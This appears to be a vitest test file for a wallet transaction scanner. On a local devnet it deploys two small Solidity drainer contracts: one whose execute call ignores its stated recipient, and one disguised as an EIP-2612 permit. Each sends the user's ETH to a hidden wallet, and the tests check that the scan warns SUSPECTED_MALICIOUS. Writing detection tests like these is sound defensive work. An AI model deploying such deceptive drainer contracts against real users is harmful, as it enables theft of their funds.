/**
 * Which calls name a drain's recipient. A smart account's `execute(to, value, data)` makes a call the account sends,
 * so its `to` is named when the account is the user's own (a user operation's); any other contract can take calldata of
 * that shape and forward the assets elsewhere, so there it names nothing. Executed on the devnet: the hidden wallet
 * gets what the scan says.
 */
import {
  type Address,
  createTestClient,
  encodeFunctionData,
  getAddress,
  type Hex,
  http,
  numberToHex,
  pad,
  parseAbi,
  parseEther,
} from 'viem'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { TxRequest } from '../../../src/devnet/dapp/requests.ts'
import type { Devnet } from '../../../src/devnet/devnet.ts'
import { scanTransactionsWithStats } from '../../../src/engine/index.ts'
import { startTestDevnet } from '../../support/devnet.ts'
import { runtimeCode } from '../../support/solc.ts'
import { expectRealityMatches, scanRequest } from '../protocolSupport.ts'
import { validateTransactionsResponse } from '../transactionSupport.ts'

const FORWARDER: Address = '0x00000000000000000000000000000000000e7ec0'

/** Takes an account's execute calldata and sends the ETH to a wallet of its own, whatever `to` says. */
const forwarderSource = (hidden: Address) => `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract Forwarder {
    function execute(address, uint256, bytes calldata) external payable {
        (bool ok,) = ${hidden}.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}`

/** Looks like an EIP-2612 permit, and sends the ETH that comes with it to a wallet of its own. */
const permitDrainerSource = (hidden: Address) => `
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;
contract PermitDrainer {
    function permit(address, address, uint256, uint256, uint8, bytes32, bytes32) external payable {
        (bool ok,) = ${hidden}.call{value: msg.value}("");
        require(ok, "forward failed");
    }
}`

describe('a drain behind execute calldata', () => {
  let devnet: Devnet
  beforeAll(async () => {
    devnet = await startTestDevnet()
  }, 60_000)
  afterAll(() => devnet?.stop())

  /**
   * Places `source`'s `contract` at FORWARDER (it sends what it is paid to the drainer's hidden wallet), has the user
   * call it with `data` and 5 ETH, and checks the scan says SUSPECTED_MALICIOUS and the hidden wallet, executed, gets
   * the 5 ETH.
   */
  async function expectDrainWarned(
    file: string,
    source: (hidden: Address) => string,
    contract: string,
    data: (user: Address, hidden: Address) => Hex,
  ) {
    const { fixtures } = devnet
    const hidden = getAddress(fixtures.drainer.attacker)
    await createTestClient({ mode: 'anvil', transport: http(fixtures.rpcUrl) }).setCode({
      address: FORWARDER,
      bytecode: runtimeCode(file, source(hidden), contract),
    })
    const user = fixtures.accounts[1]?.address as Address
    const tx: TxRequest = { from: user, to: FORWARDER, data: data(user, hidden), value: numberToHex(parseEther('5')) }
    const { outcome } = await scanTransactionsWithStats(scanRequest(tx), { rpcUrl: fixtures.rpcUrl, chainId: 31337 })
    if (!outcome.ok) throw new Error(JSON.stringify(outcome.error))
    validateTransactionsResponse(outcome.response)
    expect(outcome.response.action).toBe('WARN')
    expect(outcome.response.warnings.map((warning) => warning.kind)).toContain('SUSPECTED_MALICIOUS')
    const executed = await expectRealityMatches(fixtures.rpcUrl, outcome.response, tx)
    expect(executed.get(`${hidden.toLowerCase()}|native`)).toBe(parseEther('5'))
  }

  it("a contract's execute(hidden, 0, 0x) that takes 5 ETH to a wallet of its own: SUSPECTED_MALICIOUS, as executed", () =>
    expectDrainWarned('Forwarder.sol', forwarderSource, 'Forwarder', (_, hidden) =>
      encodeFunctionData({
        abi: parseAbi(['function execute(address dest, uint256 value, bytes func) payable']),
        functionName: 'execute',
        args: [hidden, 0n, '0x'],
      }),
    ))

  it('a permit whose signature word holds the hidden wallet does not name it: SUSPECTED_MALICIOUS, as executed', () =>
    expectDrainWarned('PermitDrainer.sol', permitDrainerSource, 'PermitDrainer', (user, hidden) =>
      encodeFunctionData({
        abi: parseAbi(['function permit(address, address, uint256, uint256, uint8, bytes32 r, bytes32 s)']),
        functionName: 'permit',
        args: [user, FORWARDER, 0n, 0n, 27, pad(hidden), pad('0x01')],
      }),
    ))
})
